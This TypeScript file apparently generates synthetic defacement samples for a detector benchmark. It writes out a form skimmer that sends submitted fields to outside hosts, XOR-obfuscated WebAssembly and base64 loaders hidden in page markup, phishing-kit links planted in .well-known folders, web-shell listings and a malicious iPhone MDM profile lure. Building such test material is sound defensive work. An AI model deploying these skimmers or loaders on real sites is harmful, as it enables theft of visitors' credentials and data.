/**
 * Fresh12 defacement classes: written after round 13 (after fresh11), by
 * someone who does not read the engines, from public descriptions of real
 * defacements, skimmers, loaders, phishing kits and scams. New techniques:
 * a loader whose code is an inlined WebAssembly module, a loader that reads
 * its code from the page's own markup (a data- attribute, a hidden element,
 * a text/plain block, a comment), a home page replaced by the server's
 * directory listing with the intruder's shells in it, sign-in links sent to
 * a phishing kit planted in the site's own .well-known or wp-includes
 * folder, a notice that the site's app was replaced by another developer's
 * (TestFlight, Google Play), an iPhone configuration profile, ad overlays
 * pinned over the site's photos, documents on trusted file hosts (Dropbox,
 * Google Drive, OneDrive, WeTransfer), resources answering 401 so the
 * browser asks for a password, share buttons whose prefilled message
 * carries the scam, a hidden FormMail recipient in the site's forms, spam on
 * a taken-over subdomain of the site, "related searches" sold to a search
 * feed, a fake pay-by-bank chooser, links swapped at mousedown so hovering
 * still shows the real address, and a Korean "security module" lure; and
 * scam and spam verticals not used before (WhatsApp or Telegram vote
 * hijacking, jury-duty warrants, Hajj and Umrah packages, timeshare resale,
 * student-loan forgiveness, grocery allowance cards for seniors, Aviator
 * predictors, casinos not on GamStop, kidney sales, Illuminati recruitment,
 * leaked exam answers, Indian KYC updates, care-worker visa sponsorship and
 * free solar panels). Each differs from every class in defacements.ts and
 * fresh-defacements.ts through fresh11-defacements.ts (not a re-wording of
 * one) and varies its templates, languages, domains, positions and sizes.
 * The writer had no internet access: every source below is recalled from
 * memory, with its outlet and an approximate date, and its comment says so.
 * Scored in the `fresh12` group, never tuned on.
 */
import { type ChangeClass, attrTargets, bottom, brandName, cap, evil, forms, head, inside, resolve, say, scriptSpot, shown, siteOr, top } from "./classes.js"
import type { Page } from "./corpus.js"
import { b64, links } from "./defacements.js"
import { type Change, type Splice, anySlot, esc, insert, replace, slotAt, splices } from "./edit.js"
import { type Lang, someDate } from "./locales.js"
import { type Rng, alnum, between, chance, digits, hex, int, pick, sample, upper } from "./rng.js"
import { brandLookalike, libLookalike, nick, randomDomain, slug } from "./words.js"

const fresh12 = (name: string, make: (page: Page, rng: Rng) => Change): ChangeClass => ({ name, kind: "defacement", group: "fresh12", make })

/** A JavaScript string literal that cannot close the script element it sits in. */
const js = (s: string) => JSON.stringify(s).replace(/</g, "\\u003c")
const wrapScript = (rng: Rng, code: string) =>
  `<script>${pick(rng, [() => code, () => code, () => `eval(atob("${b64(code)}"))`, () => `(new Function(atob("${b64(code)}")))()`])()}</script>`
const tld = (rng: Rng) => pick(rng, ["com", "net", "top", "xyz", "site", "online", "shop", "info", "click", "icu", "live", "pro", "vip"])
const freeMail = (rng: Rng) => pick(rng, ["gmail.com", "outlook.com", "proton.me", "yahoo.com", "hotmail.com", "gmx.com", "mail.com"])
/** Near the top of the page, where a notice is read first, or anywhere. */
const noticeSpot = (rng: Rng, page: Page) => pick(rng, [top(page), slotAt(page.spots, "top"), anySlot(rng, page.spots)])
/** Where a spam block goes: the middle, the bottom, anywhere. */
const spamSpot = (rng: Rng, page: Page) => pick(rng, [slotAt(page.spots, "middle"), slotAt(page.spots, "bottom"), anySlot(rng, page.spots), bottom(page)])
const dateOf = (rng: Rng, page: Page) => page.site.locale.date(someDate(rng))
const origin = (page: Page) => new URL(page.site.url).origin
const intlMobile = (rng: Rng) =>
  pick(rng, [
    () => `+1 ${between(rng, 201, 989)} ${digits(rng, 3)} ${digits(rng, 4)}`, () => `+44 7${digits(rng, 3)} ${digits(rng, 6)}`, () => `+234 8${digits(rng, 2)} ${digits(rng, 3)} ${digits(rng, 4)}`,
    () => `+27 ${pick(rng, ["71", "72", "73", "81", "83"])} ${digits(rng, 3)} ${digits(rng, 4)}`, () => `+91 9${digits(rng, 4)} ${digits(rng, 5)}`, () => `+254 7${digits(rng, 2)} ${digits(rng, 3)} ${digits(rng, 3)}`,
    () => `+233 ${pick(rng, ["24", "54", "55"])} ${digits(rng, 3)} ${digits(rng, 4)}`, () => `+256 7${digits(rng, 2)} ${digits(rng, 3)} ${digits(rng, 3)}`, () => `+63 9${digits(rng, 2)} ${digits(rng, 3)} ${digits(rng, 4)}`
  ])()
const waLink = (n: string) => `https://wa.me/${n.replace(/\D/g, "")}`

/** Links of the page with their resolved URL. */
const resolvedLinks = (page: Page) =>
  attrTargets(page, links(page), "href").flatMap((t) => {
    const u = resolve(page, page.html.slice(t.value.start, t.value.end).replace(/&amp;/g, "&"))
    return u === null ? [] : [{ ...t, u }]
  })
const isOwn = (page: Page, u: URL) => u.hostname === page.site.domain || u.hostname.endsWith("." + page.site.domain)

/** Code an attacker's loader ends up running: a script from another host, a redirect, or a small form skimmer. */
const payload = (rng: Rng, page: Page): string => {
  const host = pick(rng, [libLookalike(rng), randomDomain(rng), brandLookalike(rng, page.site.brand)])
  switch (int(rng, 3)) {
    case 0: return `var s=document.createElement("script");s.src=${js(`https://${host}/${pick(rng, ["js/app.min.js", "lib/" + alnum(rng, 6) + ".js", "s.js?v=" + digits(rng, 4), "cdn/jquery-" + pick(rng, ["3.6.0", "3.7.1"]) + ".min.js"])}`)};document.head.appendChild(s);`
    case 1: {
      const c = `_v${alnum(rng, 2)}`
      return `if(!/bot|crawl|spider/i.test(navigator.userAgent)&&!document.cookie.match(/${c}=/)){document.cookie="${c}=1;max-age=86400;path=/";location.href=${js(`https://${host}/${pick(rng, ["go", "r", "?t=" + alnum(rng, 6)])}`)}}`
    }
    default: return `document.addEventListener("submit",function(e){var o={u:location.href};[].forEach.call(e.target.elements,function(i){if(i.name&&i.value)o[i.name]=i.value});navigator.sendBeacon(${js(`https://${host}/${pick(rng, ["collect", "c.php", "api/log"])}`)},JSON.stringify(o))},true);`
  }
}

// WebAssembly loaders, recalled from memory of the studies of WebAssembly on the web by Musch, Wressnegger, Johns and Rieck ("New Kid on the Web", DIMVA 2019), who found most modules on popular sites mined coins or hid code, of Konoth et al.'s "MineSweeper" (CCS 2018) on Coinhive's WebAssembly miners, and, with uncertain details, of researchers' notes (about 2021–2024) on skimmers and loaders wrapped in WebAssembly to defeat JavaScript scanners. The writer knows of no exact report of this injection: the page gains a script that instantiates a module whose bytes are inlined (base64 or a byte array) or fetched from another host, reads a string out of its memory and runs it.
const wasmLoader = fresh12("loader whose code is an inlined WebAssembly module (base64 or byte array) decoded and run by a short script", (page, rng) => {
  const key = between(rng, 17, 250)
  const code = payload(rng, page)
  const enc = [...Buffer.from(code, "utf8")].map((b) => b ^ key)
  /** unsigned LEB128 (sizes, counts) */
  const uleb = (n: number): Array<number> => {
    const out: Array<number> = []
    do {
      let b = n & 0x7f
      n >>>= 7
      if (n !== 0) b |= 0x80
      out.push(b)
    } while (n !== 0)
    return out
  }
  /** signed LEB128 of a non-negative value (i32.const) */
  const sleb = (n: number): Array<number> => {
    const out: Array<number> = []
    for (;;) {
      const b = n & 0x7f
      n >>= 7
      if (n === 0 && (b & 0x40) === 0) return [...out, b]
      out.push(b | 0x80)
    }
  }
  const section = (id: number, body: ReadonlyArray<number>) => [id, ...uleb(body.length), ...body]
  const fn = pick(rng, ["run", "init", "_start", "main", "d"])
  const name = (s: string) => [...uleb(s.length), ...Buffer.from(s)]
  const funcBody = [0x00, 0x41, ...sleb(enc.length), 0x0b]
  const bytes = [
    0x00, 0x61, 0x73, 0x6d, 0x01, 0x00, 0x00, 0x00,
    ...section(0x01, [0x01, 0x60, 0x00, 0x01, 0x7f]),
    ...section(0x03, [0x01, 0x00]),
    ...section(0x05, [0x01, 0x00, 0x01]),
    ...section(0x07, [0x02, ...name("memory"), 0x02, 0x00, ...name(fn), 0x00, 0x00]),
    ...section(0x0a, [0x01, ...uleb(funcBody.length), ...funcBody]),
    ...section(0x0b, [0x01, 0x00, 0x41, 0x00, 0x0b, ...uleb(enc.length), ...enc])
  ]
  const src = pick(rng, [
    () => `Uint8Array.from(atob("${Buffer.from(bytes).toString("base64")}"),function(c){return c.charCodeAt(0)})`,
    () => `new Uint8Array([${bytes.join(",")}])`
  ])()
  const decode = `function(r){var m=r.instance.exports,n=m.${fn}(),b=new Uint8Array(m.memory.buffer,0,n),s="";for(var i=0;i<n;i++)s+=String.fromCharCode(b[i]^${key});(0,eval)(decodeURIComponent(escape(s)))}`
  const inline = pick(rng, [
    () => `WebAssembly.instantiate(${src}).then(${decode});`,
    () => `(async function(){var r=await WebAssembly.instantiate(${src});(${decode})(r)})();`
  ])()
  const remote = `WebAssembly.instantiateStreaming(fetch(${js(`https://${pick(rng, [libLookalike(rng), randomDomain(rng)])}/${pick(rng, ["wasm/", "static/", "lib/"])}${pick(rng, ["core", "opt", "worker", alnum(rng, 6)])}.wasm`)})).then(${decode});`
  const code2 = chance(rng, 0.75) ? inline : remote
  return splices(insert(scriptSpot(rng, page), `<script${chance(rng, 0.3) ? ` id="${pick(rng, ["wasm", "perf", "opt"])}-${alnum(rng, 4)}"` : ""}>${code2}</script>`))
})

// Loaders that keep their code in the page's own markup, recalled from memory with uncertain details of Akamai's report (October 2023) on a Magecart campaign that hid its loader in an HTML comment-like string and in image attributes, and of Sucuri's write-ups (about 2018–2023) on WordPress infections that store base64 or reversed code in a hidden element, a data- attribute or a meta tag and decode it with a one-line script: the page gains the carrier (a data- attribute on an ordinary element, a hidden span, a text/plain script block, a meta tag or a comment) and the short reader script, placed apart from each other.
const pageCarrierLoader = fresh12("loader reading its code from the page's own markup: a data- attribute, hidden element, text/plain block, meta tag or comment", (page, rng) => {
  const code = payload(rng, page)
  const id = `${pick(rng, ["cfg", "wp", "ga", "opt", "px", "lz"])}${alnum(rng, 5)}`
  const reversed = chance(rng, 0.35)
  const blob = reversed ? [...b64(code)].reverse().join("") : b64(code)
  const dec = (x: string) => (reversed ? `atob(${x}.trim().split("").reverse().join(""))` : `atob(${x}.trim())`)
  const run = (x: string) => pick(rng, [`(0,eval)(${dec(x)})`, `new Function(${dec(x)})()`, `setTimeout(${dec(x)},${between(rng, 0, 2500)})`])
  let carrier: string
  let read: string
  let carrierAt = anySlot(rng, page.spots)
  switch (int(rng, 5)) {
    case 0:
      carrier = `<div id="${id}" class="${pick(rng, ["lazy-cfg", "wp-block-spacer", "clearfix", "ga-ready"])}" data-${pick(rng, ["src", "cfg", "opts", "v", "lazy"])}="${blob}"></div>`
      read = `var e=document.getElementById("${id}");if(e){var d=e.dataset;for(var k in d){${run("d[k]")};break}}`
      break
    case 1:
      carrier = `<span id="${id}" style="display:none">${blob}</span>`
      read = `var e=document.getElementById("${id}");if(e){${run("e.textContent")}}`
      break
    case 2:
      carrier = `<script type="text/plain" id="${id}">${blob}</script>`
      read = `var e=document.getElementById("${id}");if(e){${run("e.textContent")}}`
      break
    case 3: {
      const meta = pick(rng, ["x-cfg", "wp-opt", "theme-data", "site-cfg"])
      carrier = `<meta name="${meta}" content="${blob}">`
      carrierAt = head(page)
      read = `var e=document.querySelector('meta[name="${meta}"]');if(e){${run("e.content")}}`
      break
    }
    default:
      carrier = `<!--${id}:${blob}-->`
      read = `var w=document.createTreeWalker(document,128),n;while(n=w.nextNode()){if(n.data.indexOf("${id}:")===0){${run(`n.data.slice(${id.length + 1})`)};break}}`
  }
  const reader = `<script>${pick(rng, [`(function(){${read}})();`, `document.addEventListener("DOMContentLoaded",function(){${read}});`, `window.addEventListener("load",function(){${read}});`])}</script>`
  const readerAt = pick(rng, [bottom(page), head(page), slotAt(page.spots, "bottom")])
  return splices(insert(carrierAt, carrier), insert(readerAt, reader))
})

const shellNames = ["wso.php", "alfa.php", "up.php", "shell.php", "x.php", "mini.php", "b374k.php", "c99.php", "indoxploit.php", "0x.php", "wp-l0gin.php", "haxor.php", "uploader.php", "leaf.php", "priv8.php", "about.php", "radio.php", "moon.php"]
const junkNames = ["index.html.bak", "index.php.old", "readme.txt", "hacked.html", "deface.html", "index_old.html", ".htaccess", "robots.txt", "error_log", "wp-config.php.bak", "x.txt", "config.bak"]

// Home pages replaced by a directory listing, recalled from memory of defacement archives (Zone-H and its mirrors, 2000s–2020s) whose mirrors often show "Index of /" after intruders deleted or renamed the index file, with their web shells (wso.php, alfa.php, b374k) and "hacked.html" in the list, and of the Apache, nginx and LiteSpeed autoindex pages as they look: the whole document becomes the server's listing.
const indexOfListing: ChangeClass = { ...fresh12("'Index of /' directory listing with the intruder's web shells served in place of the home page", (page, rng) => {
  const d = someDate(rng)
  const stamp = () => new Date(d.getTime() - 3600_000 * between(rng, 1, 900))
  const tag = nick(rng).replace(/[^A-Za-z0-9_]/g, "") || "x"
  const files = [...sample(rng, shellNames, between(rng, 1, 4)), ...(chance(rng, 0.5) ? [`${tag}.${pick(rng, ["html", "txt", "php"])}`] : []), ...sample(rng, junkNames, between(rng, 1, 5)), ...sample(rng, ["wp-admin/", "wp-content/", "wp-includes/", "images/", "css/", "js/", "cgi-bin/", "uploads/", "old/", "backup/"], between(rng, 0, 6))].sort()
  const iso = (t: Date) => t.toISOString().slice(0, 16).replace("T", " ")
  const ngx = (t: Date) => `${String(t.getUTCDate()).padStart(2, "0")}-${["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"][t.getUTCMonth()]}-${t.getUTCFullYear()} ${t.toISOString().slice(11, 16)}`
  const size = (f: string) => (f.endsWith("/") ? "-" : pick(rng, [`${between(rng, 1, 99)}K`, `${between(rng, 100, 999)}`, `${between(rng, 1, 3)}.${between(rng, 0, 9)}M`]))
  const style = int(rng, 3)
  let html: string
  if (style === 0) {
    const rows = files.map((f) => `<tr><td valign="top"><img src="/icons/${f.endsWith("/") ? "folder" : /\.(txt|bak|old)$/.test(f) ? "text" : "unknown"}.gif" alt="[${f.endsWith("/") ? "DIR" : "   "}]"></td><td><a href="${esc(f)}">${esc(f)}</a></td><td align="right">${iso(stamp())}  </td><td align="right">${size(f)}</td><td>&nbsp;</td></tr>`).join("\n")
    html = `<!DOCTYPE HTML PUBLIC "-//W3C//DTD HTML 3.2 Final//EN">\n<html>\n <head>\n  <title>Index of /</title>\n </head>\n <body>\n<h1>Index of /</h1>\n  <table>\n   <tr><th valign="top"><img src="/icons/blank.gif" alt="[ICO]"></th><th><a href="?C=N;O=D">Name</a></th><th><a href="?C=M;O=A">Last modified</a></th><th><a href="?C=S;O=A">Size</a></th><th><a href="?C=D;O=A">Description</a></th></tr>\n   <tr><th colspan="5"><hr></th></tr>\n${rows}\n   <tr><th colspan="5"><hr></th></tr>\n</table>\n<address>Apache/${pick(rng, ["2.4.41 (Ubuntu)", "2.4.52 (Ubuntu)", "2.4.57 (Debian)", "2.4.6 (CentOS) OpenSSL/1.0.2k-fips PHP/7.4.33"])} Server at ${esc(page.site.host)} Port ${pick(rng, ["80", "443"])}</address>\n</body></html>\n`
  } else if (style === 1) {
    const rows = files.map((f) => `<a href="${esc(f)}">${esc(f)}</a>${" ".repeat(Math.max(1, 51 - f.length))}${ngx(stamp())}${" ".repeat(between(rng, 8, 19))}${f.endsWith("/") ? "-" : between(rng, 90, 99999)}`).join("\n")
    html = `<html>\r\n<head><title>Index of /</title></head>\r\n<body>\r\n<h1>Index of /</h1><hr><pre><a href="../">../</a>\n${rows}\n</pre><hr></body>\r\n</html>\r\n`
  } else {
    const rows = files.map((f) => `<tr><td><a href="${esc(f)}">${esc(f)}</a></td><td align="right">${size(f)}</td><td align="right">${iso(stamp())}</td></tr>`).join("\n")
    html = `<!DOCTYPE html><html><head><meta charset="UTF-8"><title>Index of /</title><style>body{font-family:sans-serif}table{border-collapse:collapse}td,th{padding:2px 10px}</style></head><body><h1>Index of /</h1><table><tr><th>Name</th><th>Size</th><th>Modified</th></tr><tr><td><a href="../">Parent Directory</a></td><td></td><td></td></tr>\n${rows}\n</table><hr><address>Proudly Served by LiteSpeed Web Server at ${esc(page.site.host)} Port 443</address></body></html>\n`
  }
  return { html }
}), wholePage: true }

const kitLinkWords: Record<Lang, string> = {
  en: "Staff webmail", fr: "Messagerie du personnel", de: "Webmail für Mitarbeiter", es: "Correo web del personal", nl: "Webmail medewerkers", pt: "Webmail dos colaboradores", it: "Webmail del personale"
}

// Phishing kits hidden on the victim's own host, recalled from memory of Netcraft's and Akamai's notes (about 2018–2021) on kits uploaded into /.well-known/ (pki-validation, acme-challenge) and into wp-includes or wp-content/uploads of compromised WordPress sites, since these folders are rarely looked at and the URL carries the site's real domain, and of the Office 365, DocuSign and webmail kits found there: the site's sign-in, account or webmail links (or a few other links) now point at such a kit on the site's own host; a page without such links gains a "webmail" link to it.
const ownHostKit = fresh12("site's sign-in and webmail links pointed at a phishing kit planted in its own .well-known, wp-includes or uploads folder", (page, rng) => {
  const lure = pick(rng, ["office365", "o365", "owa", "webmail", "docusign", "onedrive", "sharepoint", "adobe", "dropbox", "secure", slug(page.site.brand) || "login", "roundcube", "outlook"])
  const y = someDate(rng)
  const dir = pick(rng, [
    `/.well-known/pki-validation/${lure}/`, `/.well-known/acme-challenge/${alnum(rng, 8)}/${lure}/`, `/.well-known/${lure}/`,
    `/wp-includes/js/${pick(rng, ["tinymce", "jquery", "crop"])}/${lure}/`, `/wp-content/uploads/${y.getUTCFullYear()}/${String(y.getUTCMonth() + 1).padStart(2, "0")}/${lure}/`,
    `/wp-admin/css/${alnum(rng, 6)}/${lure}/`, `/cgi-bin/.${alnum(rng, 5)}/${lure}/`
  ])
  const file = pick(rng, ["", "index.php", "login.php", "?email=", "auth/index.php", "verify.html", `?${alnum(rng, 20)}`])
  const kit = (abs: boolean) => `${abs ? origin(page) : ""}${dir}${file}`
  const all = resolvedLinks(page)
  const keyed = all.filter(({ u }) => /log.?in|sign|account|member|\/my|webmail|mail|portal|intranet|staff|konto|compte|cuenta|conta|accedi|anmelden/i.test(u.pathname + u.search + u.hostname))
  const chosen = keyed.length > 0 ? sample(rng, keyed, between(rng, 1, 3)) : chance(rng, 0.5) ? sample(rng, all.filter(({ u }) => isOwn(page, u)), between(rng, 1, 2)) : []
  const out: Array<Splice> = chosen.map((t) => replace(t.value, esc(kit(chance(rng, 0.5)))))
  if (out.length === 0) out.push(insert(pick(rng, [top(page), slotAt(page.spots, "top"), bottom(page)]), `<p class="${pick(rng, ["staff-link", "top-links", "webmail"])}"><a href="${esc(kit(chance(rng, 0.5)))}">${esc(siteOr(rng, page, kitLinkWords))}</a></p>`))
  return { splices: out }
})

const appWords: Record<Lang, readonly [string, (b: string, d: string) => string, string, string]> = {
  en: ["Important: our app has changed", (b, d) => `The old ${b} app will stop working on ${d}. To keep access to your account, delete it and install the new version from the link below, then sign in again.`, "Install the new app", "Developer"],
  fr: ["Important : notre application change", (b, d) => `L'ancienne application ${b} cessera de fonctionner le ${d}. Pour garder l'accès à votre compte, supprimez-la et installez la nouvelle version depuis le lien ci-dessous, puis reconnectez-vous.`, "Installer la nouvelle application", "Développeur"],
  de: ["Wichtig: Unsere App hat sich geändert", (b, d) => `Die alte ${b}-App funktioniert ab dem ${d} nicht mehr. Um weiter auf Ihr Konto zuzugreifen, löschen Sie sie, installieren Sie die neue Version über den Link unten und melden Sie sich erneut an.`, "Neue App installieren", "Entwickler"],
  es: ["Importante: nuestra app ha cambiado", (b, d) => `La antigua app de ${b} dejará de funcionar el ${d}. Para seguir accediendo a su cuenta, bórrela, instale la nueva versión desde el enlace de abajo y vuelva a iniciar sesión.`, "Instalar la nueva app", "Desarrollador"],
  nl: ["Belangrijk: onze app is veranderd", (b, d) => `De oude ${b}-app werkt vanaf ${d} niet meer. Verwijder hem, installeer de nieuwe versie via de link hieronder en log opnieuw in om toegang tot uw account te houden.`, "Nieuwe app installeren", "Ontwikkelaar"],
  pt: ["Importante: nosso aplicativo mudou", (b, d) => `O antigo aplicativo ${b} deixará de funcionar em ${d}. Para manter o acesso à sua conta, apague-o, instale a nova versão pelo link abaixo e entre novamente.`, "Instalar o novo aplicativo", "Desenvolvedor"],
  it: ["Importante: la nostra app è cambiata", (b, d) => `La vecchia app ${b} smetterà di funzionare il ${d}. Per mantenere l'accesso al tuo account, eliminala, installa la nuova versione dal link qui sotto e accedi di nuovo.`, "Installa la nuova app", "Sviluppatore"]
}

// Apps swapped for the attacker's through legitimate stores, recalled from memory of Sophos's reports on "CryptoRom" (2021–2022), fake banking and crypto apps handed to iPhone users through TestFlight invitations and enterprise signing, and of ThreatFabric's and Zscaler's reports (2021–2024) on droppers published in Google Play as PDF readers or "updated" banking apps: a notice, in the site's name, says its app was replaced and links to a TestFlight invitation, an App Store or a Google Play listing of another developer, with store badges.
const appReplaced = fresh12("'our app has been replaced, install the new version' notice with a TestFlight invite or a Google Play listing from another developer", (page, rng) => {
  const [h, p, cta, dev] = siteOr(rng, page, appWords)
  const b = brandName(page)
  const pkg = `com.${pick(rng, ["pdfscanner", "docreader", "fastcleaner", "qrtools", alnum(rng, 6), slug(page.site.brand).replace(/-/g, "") + pick(rng, ["app", "mobile", "plus"])])}.${pick(rng, ["pro", "reader", "secure", "android", "v2"])}`
  const developer = pick(rng, [`${pick(rng, ["Smart", "Fast", "Easy", "Mega", "Top"])} ${pick(rng, ["Tools", "Apps", "Labs", "Soft"])} ${pick(rng, ["Ltd", "LLC", "Inc.", "Studio"])}`, `${upper(rng, 2)} ${pick(rng, ["Mobile", "Digital"])} ${pick(rng, ["Co.", "Pte. Ltd.", "Limited"])}`])
  const stores = sample(rng, [
    `<a href="https://testflight.apple.com/join/${alnum(rng, 8).replace(/[a-z]/g, (c) => (chance(rng, 0.5) ? c.toUpperCase() : c))}" class="store ios">TestFlight · iPhone</a>`,
    `<a href="https://play.google.com/store/apps/details?id=${pkg}" class="store android">Google Play</a>`,
    `<a href="https://apps.apple.com/${pick(rng, ["us", "gb", "fr", "de", "es", "nl", "br", "it"])}/app/${slug(b) || "app"}/id${between(rng, 1, 6)}${digits(rng, 9)}" class="store ios">App Store</a>`
  ], between(rng, 1, 2))
  const d = dateOf(rng, page)
  const block = `<div class="${pick(rng, ["app-notice", "alert alert-warning", "notice-app"])}" style="border:2px solid ${pick(rng, ["#e67e22", "#c0392b", "#2d6cdf"])};padding:12px 16px;margin:12px 0;background:#fffaf0"><h3>📱 ${esc(h)}</h3><p>${esc(p(b, d))}</p><p><b>${esc(cta)}:</b> ${stores.join(" · ")}</p><p style="font-size:11px;color:#666">${esc(dev)}: ${esc(developer)}</p></div>`
  return splices(insert(noticeSpot(rng, page), block))
})

const profileWords: Record<Lang, readonly [string, string, string]> = {
  en: ["iPhone and iPad users", "For your security, our services now require our configuration profile. Tap the button, allow the download, then open Settings › Profile Downloaded and tap Install.", "Install the security profile"],
  fr: ["Utilisateurs d'iPhone et d'iPad", "Pour votre sécurité, nos services nécessitent désormais notre profil de configuration. Touchez le bouton, autorisez le téléchargement, puis ouvrez Réglages › Profil téléchargé et touchez Installer.", "Installer le profil de sécurité"],
  de: ["Für iPhone- und iPad-Nutzer", "Zu Ihrer Sicherheit benötigen unsere Dienste jetzt unser Konfigurationsprofil. Tippen Sie auf die Schaltfläche, erlauben Sie den Download, öffnen Sie Einstellungen › Profil geladen und tippen Sie auf Installieren.", "Sicherheitsprofil installieren"],
  es: ["Usuarios de iPhone y iPad", "Por su seguridad, nuestros servicios requieren ahora nuestro perfil de configuración. Pulse el botón, permita la descarga, abra Ajustes › Perfil descargado y pulse Instalar.", "Instalar el perfil de seguridad"],
  nl: ["Gebruikers van iPhone en iPad", "Voor uw veiligheid hebben onze diensten nu ons configuratieprofiel nodig. Tik op de knop, sta de download toe, open Instellingen › Profiel gedownload en tik op Installeer.", "Beveiligingsprofiel installeren"],
  pt: ["Usuários de iPhone e iPad", "Para sua segurança, nossos serviços agora exigem nosso perfil de configuração. Toque no botão, permita o download, abra Ajustes › Perfil Transferido e toque em Instalar.", "Instalar o perfil de segurança"],
  it: ["Utenti iPhone e iPad", "Per la tua sicurezza, i nostri servizi ora richiedono il nostro profilo di configurazione. Tocca il pulsante, consenti il download, apri Impostazioni › Profilo scaricato e tocca Installa.", "Installa il profilo di sicurezza"]
}

// Malicious configuration profiles, recalled from memory of Cisco Talos's report (July 2018) on a small campaign that enrolled Indian iPhones in an attacker's mobile-device-management server, of Sophos's "CryptoRom" reports (2021–2022) that had victims install profiles and web clips for fake trading apps, and of Apple's documentation of .mobileconfig profiles (which can install root certificates, VPN and proxy settings): a notice for iPhone users links to a profile on another host or in a data: URL.
const iosProfile = fresh12("'install our security profile' for iPhone: a configuration profile (.mobileconfig) from another host or a data: URL", (page, rng) => {
  const [h, p, cta] = siteOr(rng, page, profileWords)
  const host = pick(rng, [brandLookalike(rng, page.site.brand), randomDomain(rng), `mdm.${randomDomain(rng)}`])
  const uuid = `${hex(rng, 8)}-${hex(rng, 4)}-${hex(rng, 4)}-${hex(rng, 4)}-${hex(rng, 12)}`.toUpperCase()
  const plist = `<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd"><plist version="1.0"><dict><key>PayloadDisplayName</key><string>${esc(brandName(page))} Security</string><key>PayloadIdentifier</key><string>com.${slug(page.site.brand).replace(/-/g, "") || "site"}.profile</string><key>PayloadType</key><string>Configuration</string><key>PayloadUUID</key><string>${uuid}</string><key>PayloadVersion</key><integer>1</integer><key>PayloadContent</key><array><dict><key>PayloadType</key><string>${pick(rng, ["com.apple.mdm", "com.apple.security.root", "com.apple.vpn.managed", "com.apple.proxy.http.global"])}</string><key>ServerURL</key><string>https://${host}/mdm/server</string></dict></array></dict></plist>`
  const href = chance(rng, 0.7) ? `https://${host}/${pick(rng, ["profile", "ios", "install", "p"])}/${slug(page.site.brand) || "secure"}${pick(rng, ["", "-secure", "_" + alnum(rng, 4)])}.mobileconfig` : `data:application/x-apple-aspen-config;base64,${b64(plist)}`
  const block = `<div class="${pick(rng, ["ios-notice", "device-security", "notice"])}" style="border:1px solid #999;border-radius:10px;padding:12px 16px;margin:12px 0;background:#f5f5f7;font-family:-apple-system,Helvetica,Arial,sans-serif"><h3>📱 ${esc(h)}</h3><p>${esc(p)}</p><p><a href="${esc(href)}" style="display:inline-block;background:#0071e3;color:#fff;padding:8px 18px;border-radius:18px;text-decoration:none">${esc(cta)}</a></p></div>`
  return splices(insert(noticeSpot(rng, page), block))
})

const adLines = [
  ["Doctors stunned: this 10-second trick melts belly fat", "Learn more"], ["Seniors: new rule cuts car insurance by 40%", "Check rates"], ["Play now – 500 free spins, no deposit", "Play"],
  ["Hot singles near you are waiting", "Chat now"], ["Your PC may be infected – scan now", "Scan"], ["Earn €500 a day from home with this app", "Start"],
  ["Gold price about to explode – buy before Friday", "Invest"], ["Meet Asian women – 100% free", "Join"], ["Hearing aid at a fraction of the price", "Order"]
] as const

// In-image advertising forced onto a site, recalled from memory of the Superfish "VisualDiscovery" adware preinstalled on Lenovo laptops (disclosed February 2015), which drew ads over the images of every page, of in-image ad networks of the early 2010s that placed banners across the lower part of photos, and, with uncertain details, of Sucuri's write-ups on hacked WordPress sites injecting ad scripts from low-grade networks: a script and style from an ad host, and ad strips drawn over the bottom of some of the site's images (or ad cards among the content when it has none).
const inImageAds = fresh12("ad strips pinned over the site's own photos by an injected in-image ad script", (page, rng) => {
  const host = pick(rng, [`${pick(rng, ["img", "pic", "vis", "in"])}${pick(rng, ["ads", "adnet", "media", "serve"])}.${tld(rng)}`, randomDomain(rng)])
  const pid = alnum(rng, 10)
  const cls = `${pick(rng, ["ii", "vd", "inimg", "sfx"])}-${alnum(rng, 4)}`
  const ad = () => {
    const [t, c] = pick(rng, adLines)
    return `<span class="${cls}" style="display:block;position:relative;margin-top:-${between(rng, 48, 90)}px;height:${between(rng, 40, 80)}px;background:rgba(0,0,0,.72);color:#fff;font:13px Arial,sans-serif;padding:6px 28px 6px 8px;z-index:${between(rng, 99, 9999)}"><a href="https://${host}/c?pid=${pid}&amp;cr=${alnum(rng, 8)}" target="_blank" rel="nofollow" style="color:#fff">${esc(t)} <b style="background:#f90;padding:2px 6px;border-radius:3px">${esc(c)}</b></a><span style="position:absolute;right:6px;top:4px;font-size:10px">ⓘ ✕</span></span>`
  }
  const imgs = shown(page, "img", (e) => !e.inert && !inside(page, e, "a") && !inside(page, e, "button") && !inside(page, e, "label"))
  const out: Array<Splice> = [insert(pick(rng, [head(page), bottom(page)]), `<script src="https://${host}/${pick(rng, ["inimage", "vd", "ii"])}.js?pid=${pid}" async></script>`)]
  if (imgs.length > 0) {
    for (const img of sample(rng, imgs, between(rng, 1, Math.min(imgs.length, 5)))) out.push(insert(img.closeTag !== null ? img.closeTag.end : img.openEnd, ad()))
  } else {
    for (let i = 0; i < between(rng, 1, 3); i++) out.push(insert(anySlot(rng, page.spots), `<div class="${cls}-card" style="position:relative;max-width:320px;margin:10px 0"><img src="https://${host}/cr/${alnum(rng, 8)}.jpg" width="300" height="${pick(rng, [160, 200, 250])}" alt="">${ad()}</div>`))
  }
  return { splices: out }
})

const docWords: Record<Lang, readonly [string, (what: string) => string, ReadonlyArray<string>, string, string]> = {
  en: ["Documents", (w) => `The ${w} are now available. Because of the file size they are shared through our secure file service.`, ["updated tender documents", "signed contract and invoice", "new price list and order form", "meeting papers for members", "payment remittance advice"], "Download the documents", "Access code"],
  fr: ["Documents", (w) => `Les ${w} sont disponibles. En raison de leur taille, ils sont partagés via notre service de fichiers sécurisé.`, ["dossiers de consultation mis à jour", "contrat signé et facture", "nouveaux tarifs et bon de commande", "documents de séance pour les adhérents", "avis de paiement"], "Télécharger les documents", "Code d'accès"],
  de: ["Dokumente", (w) => `Die ${w} stehen bereit. Wegen der Dateigröße stellen wir sie über unseren sicheren Dateidienst bereit.`, ["aktualisierten Ausschreibungsunterlagen", "unterschriebener Vertrag und Rechnung", "neue Preisliste und Bestellformular", "Sitzungsunterlagen für Mitglieder", "Zahlungsavis"], "Dokumente herunterladen", "Zugangscode"],
